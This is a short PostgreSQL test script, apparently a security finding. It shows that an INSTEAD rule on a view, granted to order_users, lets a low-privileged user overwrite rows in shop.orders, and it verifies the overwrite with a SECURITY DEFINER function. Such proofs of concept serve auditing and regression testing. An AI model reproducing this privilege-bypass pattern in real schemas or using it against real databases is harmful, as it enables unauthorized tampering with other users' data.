-- finding: definer-unchecked shop.requests rule writing
SET ROLE shop_owner;
CREATE VIEW shop.requests AS SELECT NULL::bigint AS id, NULL::text AS item WHERE false;
CREATE RULE writing AS ON INSERT TO shop.requests DO INSTEAD UPDATE shop.orders SET item = NEW.item WHERE id = NEW.id;
GRANT INSERT ON shop.requests TO order_users;
CREATE FUNCTION shop.is_overwritten() RETURNS boolean LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ SELECT EXISTS (SELECT FROM shop.orders WHERE id = 2 AND item = 'overwritten') $$;
RESET ROLE;
-- leak as alice@example.com
INSERT INTO shop.requests VALUES (2, 'overwritten');
SELECT 'overwritten' WHERE shop.is_overwritten();
